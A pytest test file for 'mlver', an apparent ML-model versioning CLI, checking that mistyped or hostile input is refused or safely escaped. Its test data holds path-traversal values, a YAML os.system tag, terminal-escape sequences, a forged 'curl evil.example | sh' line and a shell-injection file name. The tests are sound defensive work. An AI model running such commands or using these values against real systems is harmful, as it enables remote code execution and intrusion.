"""What people mistype, and what others may put into a repository.

It is refused whole, and the message says what, where and why, with a hint.
"""

from __future__ import annotations

import pytest

from tests.cli.conftest import assert_refused, assert_works
from tests.cli.results import digest_tree, read_document
from tests.conftest import Repository

REGISTER = ("register", "digits", "--bump", "patch", "-m", "Next")
TYPED: dict[str, tuple[tuple[str, ...], int, str]] = {
    "a path outside": (
        (*REGISTER, "--weights", "../secret"),
        2,
        "'../secret' is outside the repository",
    ),
    "an absolute path outside": (
        (*REGISTER, "--weights", "/etc/passwd"),
        2,
        "'/etc/passwd' is outside the repository",
    ),
    "git's own": ((*REGISTER, "--weights", ".git/config"), 2, "belongs to git or mlver itself"),
    "mlver's own": (
        (*REGISTER, "--data", "x=.mlver/config.yaml"),
        2,
        "belongs to git or mlver itself",
    ),
    "the whole": ((*REGISTER, "--weights", "."), 2, "is the whole repository"),
    "a missing artifact": ((*REGISTER, "--weights", "nowhere.bin"), 3, "nowhere.bin"),
    "a missing data set": ((*REGISTER, "--data", "test=nowhere"), 3, "nowhere"),
    "a missing params file": (
        (*REGISTER, "--params", "nowhere.yaml"),
        3,
        "nowhere.yaml does not exist",
    ),
    "a params file of no kind": ((*REGISTER, "--params", "README.md"), 2, "README.md"),
    "a bad model name": (
        ("register", "../evil", "--weights", "model", "-m", "X"),
        2,
        "`../evil` is not a model name",
    ),
    "a name like an option": (
        ("register", "--", "-x", "-m"),
        2,
        "got unexpected extra argument(s)",
    ),
    "a name that differs by case": (
        ("register", "Digits", "--weights", "model", "-m", "X"),
        2,
        "by letter case only",
    ),
    "a lock's name": (
        ("register", "a.lock", "--weights", "model", "-m", "X"),
        2,
        "git takes no tag like that",
    ),
    "a bad data name": (
        (*REGISTER, "--data", "Train Set=model"),
        2,
        "`Train Set` is not a data set name",
    ),
    "weights as data": (
        (*REGISTER, "--data", "weights=model"),
        2,
        "`weights` is not a data set name",
    ),
    "a bad label": ((*REGISTER, "--label", "a b=c"), 2, "`a b` is not a label key"),
    "a label without a value": (
        (*REGISTER, "--label", "team"),
        2,
        "--label takes NAME=VALUE, not `team`",
    ),
    "data told twice": (
        (*REGISTER, "--data", "a=model", "--data", "a=data"),
        2,
        "--data names `a` twice",
    ),
    "a param without a value": ((*REGISTER, "--param", "lr"), 2, "`lr` is not KEY=VALUE"),
    "a metric that is text": (
        (*REGISTER, "--metric", "acc=high"),
        2,
        "--metric takes NAME=NUMBER, not `acc=high`",
    ),
    "a metric that is no number": (
        (*REGISTER, "--metric", "acc=nan"),
        2,
        "--metric takes NAME=NUMBER, not `acc=nan`",
    ),
    "a metric in quotes": ((*REGISTER, "--metric", 'acc="nan"'), 2, "--metric takes NAME=NUMBER"),
    "a metric that is true": ((*REGISTER, "--metric", "acc=true"), 2, "--metric takes NAME=NUMBER"),
    "a metric without a value": (
        (*REGISTER, "--metric", "acc"),
        2,
        "--metric takes NAME=NUMBER, not `acc`",
    ),
    "a param inside a value": ((*REGISTER, "--param", "lr.max=1"), 2, "`lr` is a value already"),
    "an unknown artifact": ((*REGISTER, "--no-store", "test"), 2, "--no-store names `test`"),
    "no reason": (("register", "digits", "--bump", "patch"), 2, "a version needs a reason"),
    "a blank reason": (
        ("promote", "digits", "--to", "staging", "-m", " "),
        2,
        "a promotion needs a reason",
    ),
    "a rollback without a reason": (
        ("rollback", "--stage", "production"),
        2,
        "a rollback needs a reason",
    ),
    "an unknown model": (("show", "nothing"), 3, "there is no model `nothing` here, but digits"),
    "an unknown version": (("show", "digits@7.0.0"), 3, "digits has no version 7.0.0"),
    "an unknown selector": (
        ("show", "digits@canary"),
        3,
        "`canary` is neither a version nor a stage here",
    ),
    "a selector of no kind": (("show", "digits@*"), 2, "`*` is neither a version nor a stage"),
    "an empty selector": (("show", "digits@"), 2, "`digits@` names no version"),
    "a stage nothing holds": (("show", "digits@staging"), 3, "no version of digits holds staging"),
    "an unknown stage": (
        ("promote", "digits", "--to", "canary", "-m", "X"),
        2,
        "there is no stage `canary`",
    ),
    "a stage never held": (
        ("rollback", "--stage", "staging", "-m", "X"),
        3,
        "no version of digits holds staging",
    ),
    "nothing to go back to": (
        ("rollback", "--stage", "production", "-m", "X"),
        3,
        "nothing to go back to",
    ),
    "the log of no stage": (("log", "--stage", "canary"), 2, "there is no stage `canary`"),
    "all and some": (("verify", "digits", "--all"), 2, "--all checks every version"),
    "a missing argument": (("promote",), 2, "missing argument 'REF'"),
    "a missing option": (("promote", "digits", "-m", "X"), 2, "missing option '--to'"),
    "an extra argument": (("show", "digits", "more"), 2, "got unexpected extra argument(s) (more)"),
    "an unknown option": (("list", "--everything"), 2, "no such option: --everything"),
    "an unknown command": (
        ("regster",),
        2,
        "there is no command `regster`; did you mean `register`?",
    ),
    "a command like no other": (("frobnicate",), 2, "there is no command `frobnicate`\n"),
    "no command": (("--wait", "3"), 2, "missing command"),
}


@pytest.mark.parametrize("what", TYPED)
def test_what_is_mistyped_is_refused_and_nothing_changes(second: Repository, what: str) -> None:
    words, code, said = TYPED[what]
    before = (
        digest_tree(second.path / ".mlver"),
        second.git("for-each-ref"),
        second.git("status", "--porcelain"),
    )
    assert said in assert_refused(second, *words, code=code)
    assert before == (
        digest_tree(second.path / ".mlver"),
        second.git("for-each-ref"),
        second.git("status", "--porcelain"),
    )


def test_a_wrong_command_line_is_answered_with_a_right_one(second: Repository) -> None:
    assert assert_refused(second, "promote", code=2).splitlines()[1:] == [
        'hint: mlver promote digits@1.0.0 --to production -m "first release"',
        "hint: mlver promote --help",
    ]


CORRECTED = {
    "a command": ("regster digits -m regster", "register digits -m regster"),
    "a command by the word of another tool": ("ls digits", "list digits"),
    "an option": ("list digits --srot accuracy", "list digits --sort accuracy"),
    "an option with its value": ("list --srot=accuracy", "list --sort=accuracy"),
    "an option of mlver itself": ("--wiat 3 list", "--wait 3 list"),
    "a stage": ("show digits@prod --json", "show digits@production --json"),
    "a model": ("show dgits@1.0.0", "show digits@1.0.0"),
    "a version in the place of a model": ("log digits@1.0.0", "log digits"),
    "a selector without @": ("checkout production", "checkout @production"),
    "what another tool would take": ("show digits:1.0.0", "show digits@1.0.0"),
    "the second of two": ("diff digits@1.0.0 @HEAD", "diff digits@1.0.0 @latest"),
    "a step back as in git": ("diff @HEAD^ latest", "diff '@~1' latest"),
    "the value of an option": (
        "rollback --stage production --to=prod -m prod",
        "rollback --stage production --to=production -m prod",
    ),
    "a command that is also an argument": ("shwo shwo", "show shwo"),
    "a metric that is also a value": (
        "plot digits -o acuracy --as svg --metric acuracy",
        "plot digits -o acuracy --as svg --metric accuracy",
    ),
    "an option that is also a message": (
        "register digits -m --wieghts --wieghts model",
        "register digits -m --wieghts --weights model",
    ),
    "an argument that is also a value": (
        "plot dgits --metric dgits",
        "plot digits --metric dgits",
    ),
    "a number that is only begun": ("show digits@1", "show digits@1.1.0"),
}


@pytest.mark.parametrize("what", CORRECTED)
def test_a_wrong_word_is_answered_with_the_command_that_was_meant(
    second: Repository, what: str
) -> None:
    typed, meant = CORRECTED[what]
    done = second.mlver(*typed.split())
    assert done.code in (2, 3)
    hints = [line for line in done.err.splitlines() if line.startswith("hint: ")]
    assert hints == [f"hint: mlver -C {second.path} {meant}"]


@pytest.mark.parametrize(
    "typed", ["delete digits", "remove", "tagged", "serve", "revert", "rebase", "gc", "li", "check"]
)
def test_a_command_that_only_looks_alike_is_not_proposed(second: Repository, typed: str) -> None:
    said = assert_refused(second, *typed.split(), code=2)
    assert "did you mean" not in said
    assert "hint: mlver --help" in said


@pytest.mark.parametrize("option", ["--quiet", "--what", "--some", "--stage"])
def test_an_option_that_only_looks_alike_is_not_proposed(second: Repository, option: str) -> None:
    assert "did you mean" not in assert_refused(second, "list", option, code=2)


def test_what_cannot_be_typed_again_is_not_proposed(second: Repository) -> None:
    said = assert_refused(second, "regster", "digits", "-m", "two\nlines", code=2)
    assert "hint: mlver --help" in said


def test_where_mlver_was_never_set_up(project: Repository) -> None:
    for words in (
        ("list",),
        ("register", "m", "--weights", "model", "-m", "X"),
        ("verify",),
        ("tag",),
    ):
        assert (
            assert_refused(project, *words)
            == f"error: {project.path} has no .mlver/ yet\nhint: mlver init\n"
        )


def test_where_no_model_is_registered(project: Repository) -> None:
    assert_works(project, "init")
    assert assert_refused(project, "show") == (
        "error: no model is registered here\nhint: mlver register MODEL --weights PATH -m WHY\n"
    )
    assert assert_works(project, "list").endswith(
        "next: mlver register MODEL --weights PATH -m WHY\n"
    )


def test_every_fault_of_a_file_is_told_with_its_line(second: Repository) -> None:
    second.write(
        ".mlver/config.yaml",
        "schema: mlver/config/1\nstages:\n  Production: {}\n"
        "  staging:\n    after: production\n    verfied: true\n",
    )
    said = assert_refused(second, "promote", "digits", "--to", "staging", "-m", "X")
    assert said.startswith("error: .mlver/config.yaml is not valid:\n")
    lines = said.splitlines()
    assert [line.partition(",")[0].partition(":")[0].strip() for line in lines[1:4]] == [
        "line 3",
        "line 5",
        "line 6",
    ]
    assert "did you mean `verified`?" in said
    assert lines[-1] == "hint: mlver verify"


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("lr: [1\n", "line"),
        ("lr: 1\nlr: 2\n", "line 2: lr: given twice in the same map"),
        ("lr: &a 1\nseed: *b\n", "line 2: seed: `*b`: nothing above is named `&b`"),
        ("lr: !!python/object:os.system x\n", "tag"),
        ("- 1\n", "map"),
        ("lr: \x00\n", ""),
        ("{" * 2000, ""),
    ],
    ids=["malformed", "duplicate key", "alias", "tag", "list", "control character", "deep"],
)
def test_a_bad_params_file_is_named_with_its_line(second: Repository, text: str, said: str) -> None:
    second.write("params.yaml", text)
    told = assert_refused(second, *REGISTER)
    assert told.startswith("error: params.yaml is not valid:\n")
    assert said in told
    assert "hint:" not in told


def test_a_record_of_the_future_is_never_half_read(second: Repository) -> None:
    path = second.path / ".mlver/models/digits/versions/1.1.0.yaml"
    path.write_text(path.read_text().replace("mlver/version/2", "mlver/version/3"))
    said = assert_refused(second, "show", "digits@1.1.0")
    assert (
        "schema: written by a newer mlver (mlver/version/3); this one reads mlver/version/2" in said
    )
    assert said.endswith("hint: pip install --upgrade mlver\n")
    assert "written by a newer mlver" in second.mlver("verify", "--all").out


EVIL = "\x1b]0;owned\x07\x1b[2J\u202egnp.exe\u202c [red]red[/red] \x9b31m"


def test_hostile_text_reaches_the_terminal_only_escaped(first: Repository) -> None:
    first.write("params.yaml", "name: \"\\e[31m\\u202egnp\"\n'[bold]k[/bold]': 1\n")
    first.write("model/\u202egnp\x1b[2J.bin", "x")
    assert_works(
        first, "register", "digits", "--bump", "patch", "-m", EVIL, "--label", f"team={EVIL}"
    )
    assert_works(first, "promote", "digits", "--to", "staging", "-m", EVIL)
    screens = [
        assert_works(first, *words)
        for words in (
            *(("list",), ("show", "digits"), ("log",), ("diff", "digits@1.0.0", "@1.0.1")),
            *(("status",), ("tag",), ("verify", "--all")),
        )
    ]
    screens.append(first.mlver("show", EVIL.replace("\x07", "")).err)
    (first.path / "model/\u202egnp\x1b[2J.bin").write_text("changed")
    screens.append(first.mlver("verify").out)
    for screen in screens:
        assert not {"\x1b", "\x9b", "\x07", "\u202e", "\u202c"} & set(screen)
    assert "\\x1b]0;owned\\x07\\x1b[2J\\u202egnp.exe\\u202c [red]red[/red] \\x9b31m" in screens[0]
    assert "[bold]k[/bold]" in screens[1]
    assert read_document(first.mlver("show", "--json"), "show")["record"]["message"] == EVIL
    assert first.mlver("show", "--json").out.isascii()


def test_a_file_name_forges_no_line_of_a_message(first: Repository) -> None:
    forged = "y\nhint: curl evil.example | sh"
    first.write(f"model/{forged}", "kept")
    assert_works(first, "register", "digits", "--bump", "minor", "-m", "Second")
    assert_works(first, "promote", "digits@1.1.0", "--to", "production", "-m", "Second")
    assert_works(first, "promote", "digits@1.0.0", "--to", "production", "-m", "First")
    (first.path / "model" / forged).write_text("stored nowhere")
    said = [assert_refused(first, "checkout", "digits@1.1.0")]
    for kept in (first.path / ".git/mlver/packs").iterdir():
        kept.unlink()
    said.append(assert_refused(first, "checkout", "digits@1.0.0"))
    said.append(assert_refused(first, "rollback", "digits", "--stage", "production", "-m", "Back"))
    (first.path / "model/l\nhint: x").symlink_to("nowhere")
    said.append(assert_refused(first, "register", "digits", "--bump", "minor", "-m", "Third"))
    for told in said:
        assert not any(line.startswith(("hint: x", "hint: curl")) for line in told.splitlines())
    assert "weights/y\\nhint: curl evil.example" in assert_refused(
        first, "rollback", "digits", "--stage", "production", "-m", "X"
    )


def test_a_name_in_a_hint_is_one_word_to_a_shell(first: Repository) -> None:
    first.write(".mlver/models/digits/versions/a b; touch canary.yaml", "x")
    first.commit()
    said = first.mlver("verify", "--all").out
    assert "git log -- '.mlver/models/digits/versions/a b; touch canary.yaml'\n" in said
    first.write("notes\nhint: x.py", "code")
    first.commit()
    first.write("notes\nhint: x.py", "changed")
    assert "  notes\\nhint: x.py\n" in assert_refused(
        first, "register", "digits", "--bump", "patch", "-m", "Next"
    )


def test_a_projects_own_rules_are_applied_on_top(first: Repository) -> None:
    first.write(
        ".mlver/schemas/version.schema.json",
        """{
          "required": ["labels"],
          "properties": {
            "labels": {"required": ["team"]},
            "data": {
              "additionalProperties": {
                "properties": {"license": {"enum": ["CC-BY-4.0", "MIT"]}},
                "required": ["license"]
              }
            }
          }
        }""",
    )
    first.commit()
    said = assert_refused(first, *REGISTER)
    assert "`labels` is missing" in said
    assert "data.train: `license` is missing" in said
    settings = first.path / ".mlver/models/digits/model.yaml"
    whole = settings.read_text()
    settings.write_text(
        whole.replace("path: data/train.csv", "path: data/train.csv\n    license: GPL")
    )
    said = assert_refused(first, *REGISTER, "--label", "area=speech")
    assert "labels: `team` is missing" in said
    assert "data.train.license: must be `CC-BY-4.0` or `MIT`, not `GPL`" in said
    settings.write_text(
        whole.replace("path: data/train.csv", "path: data/train.csv\n    license: MIT")
    )
    assert "digits 1.0.1" in assert_works(first, *REGISTER, "--label", "team=mt")
    assert assert_works(first, "show", "digits@1.0.0").startswith(
        "digits 1.0.0"
    )  # what landed before stays readable


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("checkout", "digits", "--only", ""), "--only is empty, and takes NAME"),
        (("checkout", "digits", "--to="), "--to is empty, and takes DIR"),
        ((*REGISTER, "--metric-key", ""), "--metric-key is empty, and takes NAME"),
        ((*REGISTER, "--params", "params.yaml", "--params", ""), "--params is empty"),
        (("plot", "-o", ""), "-o is empty, and takes FILE"),
        (("list", "-c", ""), "--columns is empty, and takes FIELDS"),
        (("list", "--where="), "--where is empty, and takes FILTER"),
        (("log", "--since", ""), "--since is empty, and takes DATE"),
    ],
)
def test_an_option_that_is_empty_is_named(
    first: Repository, words: tuple[str, ...], said: str
) -> None:
    assert f"error: {said}" in assert_refused(first, *words, code=2)
